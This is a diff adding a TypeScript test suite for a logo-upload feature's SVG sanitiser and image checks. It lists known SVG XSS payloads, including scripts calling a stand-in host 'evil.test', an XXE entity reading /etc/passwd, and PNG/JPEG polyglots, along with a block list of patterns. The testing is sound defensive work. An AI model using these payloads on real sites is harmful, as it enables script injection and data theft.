@@ -1,0 +1,162 @@
+// The logo checks (lib/branding/svg.ts, image.ts), no database: the SVG
+// sanitiser against a corpus of known SVG XSS payloads (nothing executable or
+// external survives, and what is harmless stays), and raster uploads judged
+// by their bytes: too big, not an image, wrong claims, polyglots, oversize
+// pixel counts — each refused with a clear message.
+import assert from "node:assert/strict";
+import { deflateSync } from "node:zlib";
+import { describe, test } from "node:test";
+import { checkBrandImage, ImageRejected, MAX_UPLOAD_BYTES } from "@/lib/branding/image";
+import { sanitizeSvg, SvgRejected } from "@/lib/branding/svg";
+
+const wrap = (inner: string, attrs = "") => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"${attrs} viewBox="0 0 10 10">${inner}</svg>`;
+
+/** Known SVG XSS / exfiltration payloads (OWASP XSS cheat sheet, HTML5 Security Cheatsheet, DOMPurify's test corpus, public bug reports). */
+const PAYLOADS: Array<[string, string]> = [
+  ["script element", wrap(`<script>alert(1)</script>`)],
+  ["script with xlink src", wrap(`<script xlink:href="https://evil.test/x.js"/>`)],
+  ["CDATA script", wrap(`<script><![CDATA[alert(1)]]></script>`)],
+  ["onload on root", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>`],
+  ["onclick on a shape", wrap(`<rect width="5" height="5" onclick="alert(1)"/>`)],
+  ["onmouseover mixed case", wrap(`<circle r="3" OnMouseOver="alert(1)"/>`)],
+  ["onbegin on animate", wrap(`<animate onbegin="alert(1)" attributeName="x" dur="1s"/>`)],
+  ["a xlink:href javascript:", wrap(`<a xlink:href="javascript:alert(1)"><rect width="5" height="5"/></a>`)],
+  ["a href javascript: entity-encoded", wrap(`<a href="&#106;avascript:alert(1)"><text>x</text></a>`)],
+  ["use href javascript", wrap(`<use href="javascript:alert(1)"/>`)],
+  ["use external file", wrap(`<use xlink:href="https://evil.test/sprite.svg#icon"/>`)],
+  ["use data: URI svg with script", wrap(`<use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/>`)],
+  ["foreignObject HTML", wrap(`<foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"></iframe></body></foreignObject>`)],
+  ["foreignObject img onerror", wrap(`<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></foreignObject>`)],
+  ["animate href to javascript", wrap(`<a><animate attributeName="href" values="javascript:alert(1)"/><text x="1" y="5">click</text></a>`)],
+  ["set href to javascript", wrap(`<a><set attributeName="xlink:href" to="javascript:alert(1)"/><rect width="5" height="5"/></a>`)],
+  ["animate on use href", wrap(`<use href="#a"><animate attributeName="href" from="#a" to="data:image/svg+xml,x"/></use><g id="a"/>`)],
+  ["style element @import", wrap(`<style>@import url(https://evil.test/x.css);</style><rect width="1" height="1"/>`)],
+  ["style element url() background", wrap(`<style>rect{fill:url(https://evil.test/track)}</style><rect width="1" height="1"/>`)],
+  ["style attribute url()", wrap(`<rect width="1" height="1" style="fill:url(https://evil.test/t)"/>`)],
+  ["style attribute CSS escape", wrap(`<rect width="1" height="1" style="background:u\\72l(https://evil.test/t)"/>`)],
+  ["style attribute expression", wrap(`<rect width="1" height="1" style="width:expression(alert(1))"/>`)],
+  ["fill url() external", wrap(`<rect width="1" height="1" fill="url(https://evil.test/p.svg#g)"/>`)],
+  ["image element external", wrap(`<image href="https://evil.test/track.png" width="1" height="1"/>`)],
+  ["image element data URI", wrap(`<image xlink:href="data:image/svg+xml;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" width="1" height="1"/>`)],
+  ["filter feImage external", wrap(`<filter id="f"><feImage href="https://evil.test/x.png"/></filter><rect filter="url(#f)" width="1" height="1"/>`)],
+  ["iframe inside svg", wrap(`<iframe src="https://evil.test"/>`)],
+  ["namespaced html script", wrap(`<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>`)],
+  ["svg-prefixed script", `<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>alert(1)</svg:script></svg:svg>`],
+  ["uppercase SCRIPT", wrap(`<SCRIPT>alert(1)</SCRIPT>`)],
+  ["handler with tab/newline in scheme", wrap(`<a href="java\tscript:alert(1)"><rect width="1" height="1"/></a>`)],
+  ["vbscript", wrap(`<a href="vbscript:msgbox(1)"><rect width="1" height="1"/></a>`)],
+  ["xml-stylesheet processing instruction", `<?xml-stylesheet href="https://evil.test/x.xsl" type="text/xsl"?>` + wrap(`<rect width="1" height="1"/>`)],
+  ["text that looks like markup", wrap(`<text x="0" y="5">&lt;script&gt;alert(1)&lt;/script&gt;</text>`)],
+  ["attribute breaking out with quotes", wrap(`<rect width="1" height="1" id="a&quot; onload=&quot;alert(1)"/>`)],
+];
+
+const FORBIDDEN = [/<script/i, /\son\w+\s*=/i, /javascript:/i, /vbscript:/i, /data:/i, /foreignObject/i, /<image/i, /<a[\s>]/, /<style/i, /@import/i, /evil\.test/i, /<animate/i, /<set[\s>]/, /<iframe/i, /feImage/i, /expression\(/i, /xml-stylesheet/i];
+
+describe("SVG sanitiser against known payloads", () => {
+  for (const [name, payload] of PAYLOADS) {
+    test(name, () => {
+      let out: string;
+      try {
+        out = sanitizeSvg(payload);
+      } catch (error) {
+        assert.ok(error instanceof SvgRejected, `refused with a message, not ${String(error)}`);
+        return;
+      }
+      for (const re of FORBIDDEN) assert.doesNotMatch(out, re, `${name}: ${re} survived in ${out}`);
+      assert.match(out, /^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
+    });
+  }
+
+  test("DOCTYPE and entities (XXE, billion laughs) refuse the file", () => {
+    const xxe = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`;
+    const laughs = `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>`;
+    for (const x of [xxe, laughs]) assert.throws(() => sanitizeSvg(x), (e) => e instanceof SvgRejected && /DOCTYPE/.test(e.message));
+  });
+
+  test("an SVG/HTML polyglot (content after the root) is refused", () => {
+    assert.throws(() => sanitizeSvg(wrap(`<rect width="1" height="1"/>`) + `<html><script>alert(1)</script></html>`), SvgRejected);
+  });
+
+  test("a harmless logo keeps its shapes, gradients, local references and text", () => {
+    const logo = wrap(
+      `<defs><linearGradient id="g"><stop offset="0" stop-color="#123456"/></linearGradient><clipPath id="c"><rect width="10" height="10"/></clipPath></defs>` +
+        `<g clip-path="url(#c)"><path d="M0 0L10 10" stroke="#000" fill="url(#g)"/><use href="#g"/></g><text x="1" y="9" font-family="Arial">Acme &amp; Co</text>`,
+    );
+    const out = sanitizeSvg(logo);
+    for (const keep of ['<linearGradient id="g">', 'fill="url(#g)"', 'clip-path="url(#c)"', '<use href="#g">', "Acme &amp; Co", 'viewBox="0 0 10 10"']) assert.ok(out.includes(keep), `${keep} kept in ${out}`);
+  });
+});
+
+// --- raster and upload checks ---------------------------------------------------
+
+function crc32(buf: Buffer): number {
+  let c = ~0;
+  for (const b of buf) {
+    c ^= b;
+    for (let k = 0; k < 8; k++) c = c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1;
+  }
+  return ~c >>> 0;
+}
+function chunk(type: string, data: Buffer): Buffer {
+  const len = Buffer.alloc(4);
+  len.writeUInt32BE(data.length);
+  const td = Buffer.concat([Buffer.from(type, "latin1"), data]);
+  const crc = Buffer.alloc(4);
+  crc.writeUInt32BE(crc32(td));
+  return Buffer.concat([len, td, crc]);
+}
+/** A real PNG (RGB, one colour) of w×h; extra chunks before IEND, trailing bytes after it. */
+export function png(w: number, h: number, opts: { extra?: Buffer[]; trailing?: Buffer } = {}): Buffer {
+  const ihdr = Buffer.alloc(13);
+  ihdr.writeUInt32BE(w, 0);
+  ihdr.writeUInt32BE(h, 4);
+  ihdr[8] = 8;
+  ihdr[9] = 2;
+  const raw = Buffer.alloc(Math.min(h, 64) * (1 + w * 3), 0x33);
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    chunk("IHDR", ihdr),
+    ...(opts.extra ?? []),
+    chunk("IDAT", deflateSync(raw)),
+    chunk("IEND", Buffer.alloc(0)),
+    opts.trailing ?? Buffer.alloc(0),
+  ]);
+}
+function jpeg(w: number, h: number, trailing = Buffer.alloc(0), comment?: string): Buffer {
+  const sof = Buffer.from([0xff, 0xc0, 0x00, 0x11, 0x08, h >> 8, h & 255, w >> 8, w & 255, 0x03, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]);
+  const com = comment ? Buffer.concat([Buffer.from([0xff, 0xfe, 0, comment.length + 2]), Buffer.from(comment, "latin1")]) : Buffer.alloc(0);
+  const sos = Buffer.from([0xff, 0xda, 0x00, 0x0c, 0x03, 1, 0, 2, 0x11, 3, 0x11, 0, 0x3f, 0]);
+  return Buffer.concat([Buffer.from([0xff, 0xd8]), com, sof, sos, Buffer.from([0x12, 0x34, 0x56]), Buffer.from([0xff, 0xd9]), trailing]);
+}
+
+const rejected = (bytes: Buffer, message: RegExp) =>
+  assert.throws(() => checkBrandImage(bytes), (e) => e instanceof ImageRejected && message.test(e.message), `expected ${message}`);
+
+describe("uploads are judged by their bytes", () => {
+  test("a valid PNG, JPEG and SVG pass with their size and a content hash", () => {
+    const p = checkBrandImage(png(120, 40));
+    assert.deepEqual([p.contentType, p.width, p.height], ["image/png", 120, 40]);
+    assert.match(p.sha256, /^[0-9a-f]{64}$/);
+    const j = checkBrandImage(jpeg(300, 100));
+    assert.deepEqual([j.contentType, j.width, j.height], ["image/jpeg", 300, 100]);
+    const s = checkBrandImage(Buffer.from(wrap(`<rect width="10" height="10" fill="#123456"/>`)));
+    assert.deepEqual([s.contentType, s.width, s.height], ["image/svg+xml", 10, 10]);
+  });
+  test("too big", () => rejected(Buffer.concat([png(10, 10), Buffer.alloc(MAX_UPLOAD_BYTES)]), /KiB; at most 512 KiB/));
+  test("empty", () => rejected(Buffer.alloc(0), /empty/));
+  test("not an image (a PDF, HTML, a GIF, a ZIP named .png)", () => {
+    for (const b of ["%PDF-1.7\n...", "<html><script>alert(1)</script></html>", "GIF89a\x01\x00\x01\x00", "PK\x03\x04rest"]) rejected(Buffer.from(b, "latin1"), /Not a PNG, JPEG or SVG/);
+  });
+  test("too many pixels (header says 20000×20000)", () => rejected(png(20000, 1), /at most 4096×4096/));
+  test("PNG with HTML after IEND (polyglot)", () => rejected(png(4, 4, { trailing: Buffer.from("<html><script>alert(1)</script>") }), /data after its end/));
+  test("PNG with a script in a text chunk (polyglot)", () => rejected(png(4, 4, { extra: [chunk("tEXt", Buffer.from("Comment\0<script>alert(1)</script>"))] }), /polyglot/));
+  test("PNG/ZIP polyglot", () => rejected(png(4, 4, { extra: [chunk("zIPx", Buffer.from("PK\x03\x04payload", "latin1"))] }), /polyglot/));
+  test("JPEG with data after EOI (GIFAR-style)", () => rejected(jpeg(10, 10, Buffer.from("PK\x03\x04zip", "latin1")), /end marker/));
+  test("JPEG with HTML in a comment", () => rejected(jpeg(10, 10, Buffer.alloc(0), "<svg onload=alert(1)>"), /polyglot/));
+  test("truncated PNG", () => rejected(png(4, 4).subarray(0, 40), /truncated|damaged/));
+  test("SVG with a script is stored without it", () => {
+    const s = checkBrandImage(Buffer.from(wrap(`<script>alert(1)</script><rect width="1" height="1"/>`)));
+    assert.doesNotMatch(s.bytes.toString(), /script/);
+  });
+  test("SVG with a DOCTYPE is refused", () => rejected(Buffer.from(`<!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg"/>`), /DOCTYPE/));
+});
